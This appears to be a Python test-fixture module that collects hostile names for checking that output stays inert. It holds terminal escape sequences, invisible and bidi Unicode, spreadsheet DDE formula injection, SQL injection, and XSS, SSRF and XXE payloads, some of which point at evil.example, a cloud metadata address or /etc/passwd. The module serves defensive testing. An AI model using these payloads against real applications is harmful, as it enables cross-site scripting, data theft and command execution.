"""Names that somebody may have typed, or planted: each output shows them inert."""

import random
from collections.abc import Iterator

HOSTILE = {
    "markup": "[red]x[/red]",
    "unclosed tag": "[/nope] x",
    "open tag": "[bold",
    "link markup": "[link=https://evil.example]click[/link]",
    "action markup": "[@click=app.quit]Acme[/]",
    "escaped markup": "\\[red]x",
    "emoji code": ":smile: Corp",
    "csi colour": "\x1b[31mred",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up": "Acme\x1b[1A\x1b[2K",
    "title": "\x1b]0;pwn\x07",
    "osc 8 link": "\x1b]8;;https://evil.example\x1b\\Acme\x1b]8;;\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "device control": "\x1bP+q544e\x1b\\",
    "private message": "\x1b^hidden\x1b\\",
    "status query": "\x1b[6n",
    "shift out": "\x0eAcme",
    "c1 csi": "\x9b31mx",
    "c1 osc": "\x9d0;pwn\x9c",
    "next line": "Acme\x85EVIL",
    "carriage return": "Acme\rEVIL",
    "line end": "Acme\nTotal: 0",
    "dos line end": "Acme\r\nTotal: 0",
    "tab": "Acme\tEVIL",
    "vertical tab": "Acme\x0bEVIL",
    "form feed": "Acme\x0cEVIL",
    "line separator": "Acme\u2028EVIL",
    "paragraph separator": "Acme\u2029EVIL",
    "backspace": "Acme\b\b\b\bEvil",
    "bell": "Acme\x07",
    "delete": "Acme\x7f",
    "nul": "Acme\x00x",
    "bidi override": "Acme \u202etxt.exe",
    "bidi isolate": "Acme \u2066txt\u2069",
    "arabic letter mark": "Acme\u061c",
    "zero width space": "Ac\u200bme",
    "zero width joiner": "Ac\u200dme",
    "word joiner": "Ac\u2060me",
    "byte order mark": "\ufeffAcme",
    "soft hyphen": "Ac\u00adme",
    "tag characters": "Acme\U000e0041",
    "variation selector": "Acme\ufe0f",
    "hangul filler": "\u3164",
    "combining flood": "A" + "\u0301" * 500,
    "enclosing flood": "A" + "\u20dd" * 50,
    "leading mark": "\u0301Acme",
    "lone surrogate": "Ac\udce9me",
    "private use": "Acme\ue000",
    "unassigned": "Acme\U000e0fff",
    "noncharacter": "Acme\uffff",
    "wide": "株式会社" * 20,
    "long word": "x" * 5000,
    "formula": "=1+1",
    "dde formula": "=cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "guarded formula": "'=1+1",
    "quote and comma": 'Acme "Best", S.L.',
    "pipe": "Acme | Best \\| x",
    "html": "<script>alert(1)</script>&amp;",
    "markdown": "![x](https://evil.example) `code` **b**",
    "sql": "'; DROP TABLE account; --",
    "only blanks": "   ",
    "empty": "",
}

WEB = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "</TITLE><SCRIPT SRC=//evil.example/x></SCRIPT>",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image elsewhere": '<img src="http://169.254.169.254/latest/meta-data/">',
    "local file": '<iframe src="file:///etc/passwd"></iframe>',
    "drawing": "<svg/onload=alert(1)>",
    "handler in an attribute": '" onmouseover="alert(1)',
    "handler after an apostrophe": "' autofocus onfocus='alert(1)",
    "address that acts": '<a href="javascript:alert(1)">Acme</a>',
    "bare address that acts": "javascript:alert(1)",
    "data address": '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    "end of style": "</style><style>body{background:url(//evil.example)}</style>",
    "import of style": "@import url(http://evil.example/x.css);",
    "end of page": "</td></tr></table></body></html>",
    "end of cdata": "]]><script>alert(1)</script>",
    "comment": "<!-- --><script>alert(1)</script><!--",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing instruction": "<?php echo 1 ?><?xml-stylesheet href='http://evil.example'?>",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "other base": '<base href="http://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "stylesheet elsewhere": '<link rel="stylesheet" href="//evil.example/x.css">',
    "form": '<form action="http://evil.example"><input name=q>',
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numbered": "&#60;script&#62;&#x3c;script&#x3e;",
    "without semicolon": "&lt script&gt &ampx",
    "split by nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full-width": "＜script＞alert(1)＜/script＞",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
}
"""Names that somebody may have planted for a browser."""

FORMULAS = (
    "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠x",
    "\ufeff=1", "\u200b=1", "\u00a0=1", '=HYPERLINK("http://x?"&A1)', "safe\n=cmd", "safe\r\n=cmd", "-", "|calc", "%x",
    "'=1", "''=1",
)  # fmt: skip
"""Texts that a spreadsheet would compute."""
LINKS = (
    "http://evil.example",
    "ftp://evil.example",
    "mailto:x@evil.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "{=1+1}",
)
"""Texts that a spreadsheet's library makes links and formulas of, unless it is told not to."""

_POOL = [
    *map(chr, range(0x180)),
    *"\u0301\u0316\u20dd\u200b\u2028\u202a\u202e\u2066\ufe0f\ufeff\ud800\udce9\ue000\U000e0041\U0001f600株ﾊ",
    *"[]/=:\\|" * 8,
]


def random_texts(count: int) -> Iterator[str]:
    """Random texts full of what terminals, markup and spreadsheets obey; the same ones each time."""
    source = random.Random(4)
    for _number in range(count):
        yield "".join(source.choices(_POOL, k=source.randint(1, 40)))
